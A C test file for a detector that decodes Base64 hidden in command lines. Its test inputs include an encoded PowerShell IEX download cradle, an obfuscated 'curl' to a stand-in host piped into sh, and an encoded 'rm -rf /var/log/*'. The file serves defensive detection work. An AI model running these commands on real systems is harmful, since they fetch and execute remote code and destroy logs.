/* SPDX-License-Identifier: Apache-2.0 */
/* Base64 that hides text is decoded; what only looks like it is left alone. */
#include "hunt/encoded.h"

#include "tap.h"

static struct buf out = {.max = 1 << 20};

static void decodes(const char *text, const char *want)
{
    buf_clear(&out);
    ok(encoded_write(slice_str(text), &out) == (*want != 0), "%.40s", text);
    is_str(buf_cstr(&out), want, "%.40s", text);
}

int main(void)
{
    decodes("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAApAA==",
            "IEX (New-Object Net)");
    decodes("sh -c 'echo Y3VybCBodHRwOi8vMTkyLjAuMi4xL2E= | base64 -d | sh'",
            "curl http://192.0.2.1/a");
    decodes("[Convert]::FromBase64String('Y3VybCBodHRwOi8vMTkyLjAuMi4xL2E') ; "
            "-e cm0gLXJmIC92YXIvbG9nLyoK",
            "curl http://192.0.2.1/a ¦ rm -rf /var/log/*");
    decodes("", "");
    decodes(
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -ExecutionPolicy Bypass",
        "");
    decodes("/usr/lib/systemd/systemd-logind /usr/share/applications/foo", "");
    decodes("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "");
    decodes("SHA256=A2E369DF26C88015FE1F97C7542D6023B5B1E4830C25F94819507EE5BCB1DFCC", "");
    decodes("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk", "");
    /* letters, a blank, and bytes that are no text */
    decodes("bf967rdcv0Yg64R3T5rbzkBGmtNN9OPXtg==", "");
    decodes("bf96YmMgbGV0dGVycyBhbmQg64Rieg==", "");
    buf_done(&out);
    return tap_done();
}
